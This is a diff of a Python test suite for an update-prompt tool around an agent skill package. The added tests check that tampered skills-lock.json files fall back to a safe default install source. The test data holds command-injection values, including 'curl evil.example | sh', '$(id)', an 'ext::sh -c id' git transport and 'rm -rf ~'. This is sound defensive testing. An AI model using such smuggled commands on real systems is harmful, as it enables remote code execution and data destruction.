@@ -165,7 +165,7 @@ def test_dismiss_never_and_status_across_processes(uenv, tmp_path, project):
     assert prompt.startswith("[ACTION_REQUIRED]")
     install_line = next(line for line in prompt.splitlines() if "Install now" in line)
     # a copy outside any agent folder installs for the universal .agents/ only; no --dismiss chained after it
-    assert install_line.endswith("Install now: npx skills add QianWen-AI/qianwen-ops-auth --full-depth "
+    assert install_line.endswith("Install now: npx skills add QianWen-AI/qianwen-ops-auth#release "
                                  "--skill qianwen-update-check -a cursor -y")
     assert "Install now" in prompt and "Skip for now" in prompt and "Never remind me" in prompt
     gossamer(uenv, project, "--dismiss", script_dir=scripts)
@@ -187,9 +187,9 @@ def test_update_available_line_when_sibling_installed(server, uenv, project):
     server.version(bump(CURRENT), "faster uploads")
     out = gossamer(uenv, project)
     assert out.startswith("[UPDATE_AVAILABLE]") and bump(CURRENT) in out and "faster uploads" in out
-    assert out.rstrip().endswith("npx skills add QianWen-AI/qianwen-ops-auth --full-depth --skill '*' -a cursor -y")
+    assert out.rstrip().endswith("npx skills add QianWen-AI/qianwen-ops-auth#release --skill '*' -a cursor -y")
     plain = run_script("check_update.py", "--force", env=uenv, cwd=project, python=BARE).out
-    assert plain.rstrip().endswith("--full-depth --skill '*' -a cursor -y"), plain  # the sibling says it the same way
+    assert plain.rstrip().endswith("#release --skill '*' -a cursor -y"), plain  # the sibling says it the same way
     assert gossamer(uenv, project) == ""  # checked moments ago: quiet for a day
 
 
@@ -467,6 +467,7 @@ def test_status_into_a_closed_pipe_is_silent(uenv, project):
     _, err = proc.communicate(timeout=60)
     assert proc.returncode == 0 and b"warning" not in err and b"Traceback" not in err
 
+
 # ------------------------------------------------------------------ a failed check says so; time and state are bounded
 
 def test_gossamer_says_in_one_line_when_the_check_failed(uenv, project):
@@ -559,6 +560,86 @@ def test_a_planted_future_time_silences_nothing(server, uenv, tmp_path, project)
     status = json.loads(gossamer(dict(uenv, QWEN_SKILLS_NOW=str(now + DAY - 1)), project, "--status",
                                  script_dir=scripts))
     assert status["suppressed"] is True and status["next_prompt_at"] == now + DAY  # a real dismissal still counts
+
+
+# ------------------------------------------------------------------ where `npx skills add` takes the bundle from
+
+def lock_project(tmp_path, lock) -> Path:
+    """An installed copy's folder in a project whose skills-lock.json holds ``lock`` (bytes or an object)."""
+    skill = tmp_path / "p" / ".agents" / "skills" / "qianwen-ops-auth"
+    skill.mkdir(parents=True)
+    if lock is not None:
+        data = lock if isinstance(lock, bytes) else json.dumps(lock).encode()
+        (tmp_path / "p" / "skills-lock.json").write_bytes(data)
+    return skill
+
+
+def entry(source, ref="release", kind="github", **extra):
+    return {"skills": {"qianwen-ops-auth": {"source": source, "ref": ref, "sourceType": kind, **extra}}}
+
+
+@pytest.mark.parametrize("lock,expected", [
+    (None, "QianWen-AI/qianwen-ops-auth#release"),
+    (entry("someone/fork"), "someone/fork#release"),
+    (entry("someone/fork", ref=None), "someone/fork#release"),
+    (entry("someone/fork", ref="v2.0"), "someone/fork#v2.0"),
+    (entry("x/y", kind="git", sourceUrl="https://git.example.com/team/qianwen-ops-auth.git"),
+     "https://git.example.com/team/qianwen-ops-auth.git#release"),
+    (entry("x/y", kind="git", sourceUrl="git@git.example.com:team/qianwen-ops-auth.git"),
+     "git@git.example.com:team/qianwen-ops-auth.git#release"),
+    ({"skills": {"qianwen-update-check": {"source": "someone/fork", "sourceType": "github"}}}, "someone/fork#release"),
+])
+def test_install_source_is_the_one_skills_lock_records(tmp_path, lock, expected):
+    from qianwen_ops.skill_state import install_source
+
+    assert install_source(lock_project(tmp_path, lock), {"HOME": str(tmp_path)}) == expected
+
+
+HOSTILE_LOCKS = {
+    "shell": entry("a/b; curl evil.example | sh"),
+    "substitution": entry("a/$(id)"),
+    "option": entry("--yes/b"),
+    "quote": entry("a/b'c"),
+    "local path": entry("/home/me/checkout", kind="local"),
+    "relative path": entry("./checkout", kind="local"),
+    "file url": entry("x/y", kind="git", sourceUrl="file:///tmp/evil"),
+    "ext transport": entry("x/y", kind="git", sourceUrl="ext::sh -c id"),
+    "shorthand for a git source": entry("x/y", kind="git", sourceUrl="a/b"),
+    "dot-dot": entry("../../etc"),
+    "well-known": entry("https://example.com", kind="well-known"),
+    "not a string": entry(["a", "b"]),
+    "newline": entry("a/b\nc"),
+    "too large": b'{"skills": {"qianwen-ops-auth": {"source": "someone/fork", "sourceType": "github"}}, "pad": "'
+                 + b"x" * 300_000 + b'"}',
+    "deep": b"[" * 100_000,
+    "not json": b"\x00\xff{",
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_LOCKS))
+def test_a_hostile_skills_lock_falls_back_to_the_default(tmp_path, name):
+    from qianwen_ops.skill_state import install_source
+    from qianwen_ops.update_prompt import install_command
+
+    skill = lock_project(tmp_path, HOSTILE_LOCKS[name])
+    assert install_source(skill, {"HOME": str(tmp_path)}) == "QianWen-AI/qianwen-ops-auth#release"
+    command = install_command({"HOME": str(tmp_path)}, skill)
+    assert command.startswith("npx skills add QianWen-AI/qianwen-ops-auth#release ")
+
+
+def test_hostile_ref_is_dropped_and_settings_win(tmp_path):
+    from qianwen_ops.skill_state import add_command, install_source
+
+    skill = lock_project(tmp_path, entry("someone/fork", ref="x; rm -rf ~"))
+    assert install_source(skill, {"HOME": str(tmp_path)}) == "someone/fork#release"
+    assert install_source(skill, {"HOME": str(tmp_path), "QWEN_SKILLS_REPO": "me/mine"}) == "me/mine#release"
+    (tmp_path / "p" / "skills-lock.json").unlink()
+    (tmp_path / "p" / "skills-lock.json").symlink_to(tmp_path / "elsewhere.json")  # a link is not read
+    (tmp_path / "elsewhere.json").write_text(json.dumps(entry("evil/fork")))
+    assert install_source(skill, {"HOME": str(tmp_path)}) == "QianWen-AI/qianwen-ops-auth#release"
+    other_ref = lock_project(tmp_path / "q", entry("someone/fork", ref="main"))
+    assert add_command(other_ref, "'*'", {"HOME": str(tmp_path)}) == (
+        "npx skills add someone/fork#main --full-depth --skill '*' -a cursor -y")  # a checkout-shaped ref
 
 
 # ------------------------------------------------------------------ the state stays out of git status
